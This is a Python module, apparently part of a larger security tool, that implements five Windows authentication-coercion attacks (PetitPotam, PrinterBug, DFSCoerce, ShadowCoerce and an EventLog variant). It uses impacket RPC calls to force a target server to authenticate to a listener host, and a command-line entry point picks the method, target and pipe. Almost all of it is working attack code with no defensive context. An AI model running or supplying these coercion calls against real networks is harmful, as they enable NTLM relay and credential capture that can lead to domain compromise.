"""Calls that make a server log on at another machine: `coerce METHOD HOST PIPE [LEVEL|encrypted]`."""

from __future__ import annotations

import sys

from impacket.dcerpc.v5 import even, rprn
from impacket.dcerpc.v5.dtypes import DWORD, LONG, LPWSTR, NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import uuidtup_to_bin

from .. import settings
from .connect import attempt, pipe

LISTENER = settings.CLIENT_ADDRESS
EFSRPC = {
    "efsrpc": ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"),
    "lsarpc": ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"),
}

# impacket looks for an error class in the module that defines a call.
DCERPCSessionError = DCERPCException


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flag", LONG))


class EfsRpcOpenFileRawResponse(NDRCALL):
    structure = (("hContext", "20s=b''"), ("ErrorCode", ULONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (("FileName", WSTR),)


class EfsRpcEncryptFileSrvResponse(NDRCALL):
    structure = (("ErrorCode", ULONG),)


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class NetrDfsRemoveStdRootResponse(NDRCALL):
    structure = (("ErrorCode", ULONG),)


class IsPathSupported(NDRCALL):
    opnum = 8
    structure = (("ShareName", WSTR),)


class IsPathSupportedResponse(NDRCALL):
    structure = (("SupportedByThisProvider", ULONG), ("OwnerMachineName", LPWSTR), ("ErrorCode", ULONG))


def petitpotam(rpc, _host: str, pipe_name: str):
    rpc.bind(uuidtup_to_bin(EFSRPC[pipe_name]))
    request = EfsRpcOpenFileRaw()
    request["FileName"], request["Flag"] = f"\\\\{LISTENER}\\share\\x.txt\0", 0
    attempt(rpc.request, request)
    request = EfsRpcEncryptFileSrv()
    request["FileName"] = f"\\\\{LISTENER}\\share\\x.txt\0"
    attempt(rpc.request, request)


def printerbug(rpc, host: str, _pipe_name: str):
    rpc.bind(rprn.MSRPC_UUID_RPRN)
    request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    request["hPrinter"] = rprn.hRpcOpenPrinter(rpc, f"\\\\{host}\0")["pHandle"]
    request["fdwFlags"], request["pOptions"] = rprn.PRINTER_CHANGE_ADD_JOB, NULL
    request["pszLocalMachine"] = f"\\\\{LISTENER}\0"
    attempt(rpc.request, request)


def dfscoerce(rpc, _host: str, _pipe_name: str):
    rpc.bind(uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")))
    request = NetrDfsRemoveStdRoot()
    request["ServerName"], request["RootShare"], request["ApiFlags"] = f"{LISTENER}\0", "test\0", 1
    attempt(rpc.request, request)


def shadowcoerce(rpc, _host: str, _pipe_name: str):
    rpc.bind(uuidtup_to_bin(("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")))
    request = IsPathSupported()
    request["ShareName"] = f"\\\\{LISTENER}\\NETLOGON\0"
    attempt(rpc.request, request)


def evencoerce(rpc, _host: str, _pipe_name: str):
    rpc.bind(even.MSRPC_UUID_EVEN)
    attempt(even.hElfrOpenBELW, rpc, f"\\??\\UNC\\{LISTENER}\\share\\x\0")


METHODS = {function.__name__: function for function in (petitpotam, printerbug, dfscoerce, shadowcoerce, evencoerce)}


def main():
    method, host, pipe_name, *protection = sys.argv[1:]
    encrypted = protection == ["encrypted"]
    level = int(protection[0]) if protection and not encrypted else 0
    rpc = pipe(host, pipe_name, level=level, encrypted=encrypted)
    attempt(METHODS[method], rpc, host, pipe_name)


if __name__ == "__main__":
    main()
